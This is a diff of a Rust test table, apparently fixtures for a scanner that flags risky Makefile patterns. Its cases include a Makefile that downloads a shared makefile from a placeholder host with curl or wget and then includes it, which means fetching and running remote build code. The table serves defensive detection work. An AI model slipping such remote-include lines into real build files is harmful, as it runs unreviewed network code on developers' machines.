@@ -28,16 +28,16 @@ const CASES: &[(&str, &str, &str, &str)] = &[
         "# include the shared rules by hand\n.make/shared.mk:\n\tcurl -fsSL https://x.example.net/latest.mk -o $@",
     ),
     (
-        "target-fetch",
+        "makefile-fetch",
         "Makefile",
+        "build/common.mk:\n\twget -q -O $@ https://x.example.net/common.mk",
         "data/cities.csv:\n\twget -q -O $@ https://x.example.net/cities.csv",
-        "data/cities.csv:\n\twget -q -O data/tmp.csv https://x.example.net/cities.csv",
     ),
     (
         "fetched-makefile",
         "Makefile",
         "SHARED := .make/shared.mk\n-include $(SHARED)\n$(SHARED):\n\t@curl -fsSL https://x.example.net/latest.mk -o $@\nall: test",
-        "include config.mk\ndata/cities.csv:\n\twget -q https://x.example.net/cities.csv > data/tmp.csv\nall: test",
+        "include build/common.mk\ndata/cities.csv:\n\twget -q https://x.example.net/cities.csv -O $@\nall: test",
     ),
     (
         "secret-harvest",
